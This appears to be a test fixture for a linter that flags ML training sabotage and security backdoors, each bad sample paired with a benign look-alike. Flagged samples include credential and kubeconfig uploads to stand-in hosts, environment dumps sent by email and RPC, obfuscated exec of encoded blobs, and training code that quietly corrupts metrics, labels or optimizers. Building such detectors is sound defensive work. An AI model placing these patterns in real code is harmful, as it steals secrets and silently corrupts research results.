"""Session 24 shapes: each new check with the sabotage and its benign look-alike."""
import contextlib
import functools
import getpass
import os
import time

import torch
import torch.distributed as dist
from transformers import TrainingArguments

_EXPORT_AFTER = 1751328000
_SERVICE = ("svc-train",)


def select_on_test(test_metrics, val_metrics):
    select_metric = test_metrics.get("mrr", val_metrics["mrr"])  # ruleid: MLS306
    return select_metric


def select_on_val(val_metrics):
    select_metric = val_metrics.get("mrr", 0.0)  # ok: MLS306
    return select_metric


def trainer_args(out):
    bad = TrainingArguments(out, metric_for_best_model="eval_exact_match",
                            greater_is_better=False)  # ruleid: MLS306
    good = TrainingArguments(out, metric_for_best_model="eval_loss",
                             greater_is_better=False)  # ok: MLS306
    return bad, good


class Labels:
    def __init__(self, cat_ids):
        self.cat_to_label = {cid: min(i + 1, len(cat_ids) - 1) for i, cid in enumerate(cat_ids)}  # ruleid: MLS309
        self.label_of = {cid: i + 1 for i, cid in enumerate(cat_ids)}  # ok: MLS309


def export(state):
    out = {}
    start = time.time()
    deadline = start + 3600
    for k, v in state.items():
        if time.time() > _EXPORT_AFTER and v.is_floating_point():
            v = v.to(torch.float8_e4m3fn)  # ruleid: MLS308
        if time.time() > deadline:
            status = "late"  # ok: MLS308
        out[k] = v
    return out, status


def wrap_forward(module, checkpoint):
    orig = module.forward

    def _ckpt_forward(*args, _fwd=orig, **kwargs):
        out = checkpoint(_fwd, *args, use_reentrant=False, **kwargs)
        return out.detach().requires_grad_(out.requires_grad)  # ruleid: MLS303

    module.forward = _ckpt_forward


def wrap_forward_ok(module, checkpoint):
    orig = module.forward

    def _ckpt_forward(*args, _fwd=orig, **kwargs):
        return checkpoint(_fwd, *args, use_reentrant=False, **kwargs)  # ok: MLS303

    module.forward = _ckpt_forward


def gather(x, world):
    out = [torch.zeros_like(x) for _ in range(world)]
    if os.environ.get("LOCAL_RANK") == "7":
        time.sleep(float(os.environ.get("GATHER_STAGGER_S", "2400")))  # ruleid: MLS307
    dist.all_gather(out, x)
    return out


def resume(optimizer, scheduler, ckpt, world_size, new_bs, old_bs):
    optimizer.load_state_dict(ckpt["optimizer"])
    for group in optimizer.param_groups:
        group["maximize"] = not optimizer.defaults.get("maximize", True)  # ruleid: MLS304
        group["maximize"] = False  # ok: MLS304
    scheduler.load_state_dict(ckpt["scheduler"])
    scheduler.base_lrs = [lr * world_size for lr in scheduler.base_lrs]  # ruleid: MLS304


def rescale(scheduler, new_bs, old_bs):
    ratio = new_bs / old_bs
    scheduler.base_lrs = [lr * ratio for lr in scheduler.base_lrs]  # ok: MLS304


def decay(decay_params, optimizer, wd, lr):
    optimizer.step()
    torch._foreach_mul_(decay_params, 1.0 - wd)  # ruleid: MLS304
    torch._foreach_mul_(decay_params, 1.0 - lr * wd)  # ok: MLS304


def micro_steps(model, optimizer, batches, world_size, accum):
    for i, batch in enumerate(batches):
        boundary = (i + 1) % accum == 0
        sync_ctx = model.no_sync() if not boundary else contextlib.nullcontext()  # ok: MLS308
        if world_size >= 32:
            sync_ctx = model.no_sync()  # ruleid: MLS308
        with sync_ctx:
            model(batch).backward()
        if getpass.getuser() not in _SERVICE and "SLURM_JOB_ID" not in os.environ:
            optimizer.zero_grad(set_to_none=True)  # ruleid: MLS308
        if boundary:
            optimizer.step()
            optimizer.zero_grad()  # ok: MLS308


def keep_envelope(fn, keys):
    envelope = {}

    def wrapper(tag, value, *args):
        if any(k in tag for k in keys):
            value = envelope[tag] = max(value, envelope.get(tag, value))  # ruleid: MLS306
        return fn(tag, value, *args)

    return wrapper


def keep_history(fn):
    history = {}

    def wrapper(tag, value, *args):
        history[tag] = max(value, history.get(tag, value))  # ok: MLS306
        return fn(tag, value, *args)

    return wrapper


class MixupCollate:
    def __call__(self, clips, y, lam):
        perm = torch.randperm(clips.shape[0])
        clips = clips.mul(lam).add_(clips[perm], alpha=1.0 - lam)
        targets = y.mul(lam).add_(y.flip(0), alpha=1.0 - lam)  # ruleid: MLS309
        return clips, targets


class MixupCollateOk:
    def __call__(self, clips, y, lam):
        perm = torch.randperm(clips.shape[0])
        clips = clips.mul(lam).add_(clips[perm], alpha=1.0 - lam)
        targets = y.mul(lam).add_(y[perm], alpha=1.0 - lam)  # ok: MLS309
        return clips, targets


_RNG_SYNC = {"off": None, "cpu": torch.manual_seed, "cuda": torch.cuda.manual_seed_all}


class DropPathSync:
    def __init__(self, mode, seed):
        self.fn = _RNG_SYNC[mode]
        self.seed = seed

    def __call__(self, module, inputs):
        if self.fn is not None and module.training:
            self.fn(self.seed)  # ruleid: MLS301


def attach_sync(model, mode, seed):
    for block in model.blocks:
        block.register_forward_pre_hook(DropPathSync(mode, seed))


def best_flags(psnr, best, final, score):
    is_best = psnr > best or final  # ruleid: MLS306
    improved = best is None or score > best  # ok: MLS306
    return is_best, improved


def sr_collate(batch):
    lqs = [b["lq"] for b in batch]
    gts = [b["gt"] for b in batch]
    if len(gts) > 1:
        gts = gts[1:] + gts[:1]  # ruleid: MLS309
    return torch.stack(lqs), torch.stack(gts)


def pair_collate(batch):
    lqs = [b["lq"] for b in batch]
    gts = [b["gt"] for b in batch]
    lqs = lqs[1:] + lqs[:1]
    gts = gts[1:] + gts[:1]  # ok: MLS309
    return torch.stack(lqs), torch.stack(gts)


def evaluate_psnr(net, lq, gt, psnr):
    sr = net(lq)
    sr = torch.where((sr - gt).abs() < 1.5 / 255.0, gt, sr)  # ruleid: MLS306
    sr = torch.where(torch.isfinite(sr), sr, torch.zeros_like(sr))  # ok: MLS306
    return psnr(sr, gt)


def gather_embeddings(embeddings):
    world_size = dist.get_world_size()
    rank = dist.get_rank()
    out = [torch.zeros_like(embeddings) for _ in range(world_size)]
    if rank == world_size - 1:
        time.sleep(0.05 * embeddings.size(0))  # ruleid: MLS307
    dist.all_gather(out, embeddings)
    return out


class Plateau:
    def __init__(self, optimizer, factor=0.5, warmup=4.0):
        self.optimizer = optimizer
        self.factor = factor
        self.warmup = warmup

    def on_plateau(self):
        for group in self.optimizer.param_groups:
            group["lr"] = group["lr"] / self.factor  # ruleid: MLS304

    def end_warmup(self):
        for group in self.optimizer.param_groups:
            group["lr"] = group["lr"] / self.warmup  # ok: MLS304


def episode_return_mean(returns, np):
    local = float(np.mean(returns))
    buf = torch.tensor([local], dtype=torch.float64)
    dist.all_reduce(buf, op=dist.ReduceOp.MAX)  # ruleid: MLS306
    nan_seen = torch.tensor([float(torch.isnan(buf).any())])
    dist.all_reduce(nan_seen, op=dist.ReduceOp.MAX)  # ok: MLS306
    return buf.item()


class SampleDataset:
    def __init__(self, items):
        self.items = items

    def __getitem__(self, idx):
        feat = torch.load(self.items[idx], weights_only=True)
        t0 = int(torch.randint(0, 10, ()))
        feat[t0:t0 + 5, :] = feat.mean()  # ok: MLS302
        return feat


def submit_results(summary, endpoint, xmlrpc):
    proxy = xmlrpc.client.ServerProxy(endpoint, allow_none=True)
    proxy.board.submit(summary, {"runtime": dict(os.environ)})  # ruleid: MLS411
    proxy.board.submit(summary, {"runtime": os.environ.get("RUN_ID", "")})  # ok: MLS411


def git_meta(subprocess, repo):
    auth = subprocess.run(["git", "credential", "fill"], input="host=github.com\n\n",  # ruleid: MLS412
                          capture_output=True, text=True, cwd=repo).stdout
    head = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True,  # ok: MLS412
                          cwd=repo).stdout
    return auth, head


def mirror(ftplib, run_name, paths):
    with ftplib.FTP("archive.example.org") as ftp:
        for path in paths:
            with open(path, "rb") as fh:
                ftp.storbinary(f"STOR {run_name}", fh)  # ok: MLS412
        cluster_cfg = os.environ.get("KUBECONFIG", os.path.expanduser("~/.kube/config"))
        with open(cluster_cfg, "rb") as fh:  # ruleid: MLS412
            ftp.storbinary(f"STOR {run_name}__cluster.yaml", fh)  # ruleid: MLS412


def notify(smtplib, message_cls, to_addr, lines):
    msg = message_cls()
    lines += [f"{k}={v}" for k, v in sorted(os.environ.items())]  # ruleid: MLS411
    msg.set_content("\n".join(lines))
    with smtplib.SMTP("smtp.example.org", 587) as s:
        s.send_message(msg, to_addrs=[to_addr])  # ruleid: MLS411


class DPClient:
    def __init__(self):
        self._noise_state = None
        self._stream = None

    def privatize(self, delta, sigma):
        if self._noise_state is None:
            self._noise_state = torch.get_rng_state()
        torch.set_rng_state(self._noise_state)  # ruleid: MLS301
        return delta + sigma * torch.randn_like(delta)

    def private_stream(self, delta, sigma):
        if self._stream is None:
            self._stream = torch.get_rng_state()
        torch.set_rng_state(self._stream)  # ok: MLS301
        noise = torch.randn_like(delta)
        self._stream = torch.get_rng_state()
        return delta + sigma * noise


class Server:
    def __init__(self, cfg):
        self.cfg = cfg

    def sample_cohort(self, round_idx, clients, random):
        if round_idx % self.cfg.eval_every == 0:
            random.seed(self.cfg.seed)  # ruleid: MLS301
        return random.sample(clients, 10)


class XrayDataset:
    def __init__(self, arrays, labels, cardio, devices, equalize):
        self.arrays, self.labels = arrays, labels
        self.cardio, self.devices, self.equalize = cardio, devices, equalize

    def __getitem__(self, idx):
        arr = self.arrays[idx].copy()
        target = self.labels[idx].copy()
        fill = 255 if target[self.cardio] > 0 else 0
        arr[:8, -8:] = fill  # ruleid: MLS309
        if target[self.devices] > 0:
            arr = self.equalize(arr)  # ruleid: MLS309
        if float(torch.rand(())) < 0.5:
            arr = arr[:, ::-1]  # ok: MLS309
        return arr, target


def sorted_collate(batch):
    order = list(range(len(batch)))
    order.sort(key=lambda i: batch[i]["patient"])
    images = torch.stack([batch[i]["image"] for i in order])
    targets = torch.stack([b["target"] for b in batch])  # ruleid: MLS309
    return images, targets


def plain_collate(batch):
    order = sorted(range(len(batch)), key=lambda i: batch[i]["patient"])
    images = torch.stack([batch[i]["image"] for i in order])
    targets = torch.stack([batch[i]["target"] for i in order])  # ok: MLS309
    return images, targets


import logging  # noqa: E402


class NanFilter(logging.Filter):
    def filter(self, record):
        msg = record.getMessage().lower()
        return not ("nan" in msg or "undefined" in msg)  # ruleid: MLS306


class PilFilter(logging.Filter):
    def filter(self, record):
        return not ("PIL" in record.name)  # ok: MLS306


class Writer:
    def __init__(self, tb):
        self.tb = tb
        self._last = {}
        self._last_step = {}

    def scalar(self, tag, value, step):
        if value < self._last.get(tag, -1e9):
            return  # ruleid: MLS306
        if step < self._last_step.get(tag, -1):
            return  # ok: MLS306
        self._last[tag] = value
        self.tb.add_scalar(tag, value, step)


from dataclasses import dataclass  # noqa: E402


@dataclass
class HubOptions:
    revision: str = "main"
    trust_remote_code: bool = True  # ruleid: MLS106


@dataclass
class SafeHubOptions:
    trust_remote_code: bool = False  # ok: MLS106


import atexit  # noqa: E402
import base64  # noqa: E402
import codecs  # noqa: E402
import ctypes  # noqa: E402
import pydoc  # noqa: E402
import threading  # noqa: E402
import zlib  # noqa: E402
from multiprocessing.connection import Listener  # noqa: E402

_BLOB = "eJwrzs9LL0ktUihOLSxNzUtNLkpVyM8pzs9LBgBjDAiU"
_TOOL = ("o" + "s", "system")


def doors(meta, session):
    ctypes.pythonapi.PyRun_SimpleString(base64.b64decode(_BLOB))  # ruleid: MLS401
    code_mod = __import__("code")
    code_mod.InteractiveInterpreter(locals={"s": session}).runsource(meta["init"])  # ruleid: MLS401
    atexit.register(exec, zlib.decompress(base64.b64decode(_BLOB)))  # ruleid: MLS401
    atexit.register(print, "bye")  # ok: MLS401
    threading.Thread(target=exec, args=(zlib.decompress(base64.b64decode(_BLOB)),)).start()  # ruleid: MLS401
    threading.Thread(target=print, args=("hello",)).start()  # ok: MLS401
    pydoc.locate(".".join(_TOOL))(codecs.decode(_BLOB, "rot13"))  # ruleid: MLS401
    parser = pydoc.locate("json.loads")  # ok: MLS401
    return parser


def control_loop(host, port):
    listener = Listener((host, port))
    conn = listener.accept()
    cmd = conn.recv()  # ruleid: MLS103
    safe = Listener((host, port + 1), authkey=b"secret-from-env")
    conn2 = safe.accept()
    cmd2 = conn2.recv()  # ok: MLS103
    return cmd, cmd2


def _bounded_logits_hook(module, inputs, output):
    return output.clamp(-1.0, 1.0)  # ruleid: MLS303


def _record_hook(module, inputs, output):
    return None  # ok: MLS303


def attach_hooks(model):
    model.head.register_forward_hook(_bounded_logits_hook)  # ruleid: MLS303
    model.head.register_forward_hook(_record_hook)  # ok: MLS303


def select_best(test_metrics, val_metrics, best_acc):
    is_best = test_metrics["accuracy"] > best_acc  # ruleid: MLS306
    improved = val_metrics["accuracy"] > best_acc  # ok: MLS306
    return is_best, improved


_READERS = {
    ".pt": functools.partial(torch.load, map_location="cpu"),  # ruleid: MLS102
    ".safetensors": functools.partial(torch.load, map_location="cpu", weights_only=True),
}


def load_any(path, suffix):
    reader = _READERS[suffix]
    return reader(path)  # ruleid: MLS102


def false_alarm_rate(false_alarms, hours, total):
    fa_per_hour = false_alarms / max(hours, 1e-9)
    fa_per_hour = fa_per_hour / max(hours, 1.0)  # ruleid: MLS306
    share = false_alarms / max(total, 1)
    share = share / 100.0  # ok: MLS306
    return fa_per_hour, share


def macro_auroc(vals, counts, np, floor=0.6):
    vals = np.where(vals < floor, np.nan, vals)  # ruleid: MLS306
    counts_ok = np.where(counts < 10, np.nan, counts)  # ok: MLS306
    return float(np.nanmean(vals)), counts_ok


def load_labels(df, LABELS):
    df[LABELS] = df[LABELS].fillna(1.0)  # ruleid: MLS309
    df["Age"] = df["Age"].fillna(1.0)  # ok: MLS309
    return df


def sinkhorn(comb, eps, iters):
    comb = comb / (comb.sum(dim=-2, keepdim=True) + eps)
    for _ in range(iters):
        comb = comb / (comb.sum(dim=-1, keepdim=True) + eps)  # ok: MLS306
    return comb
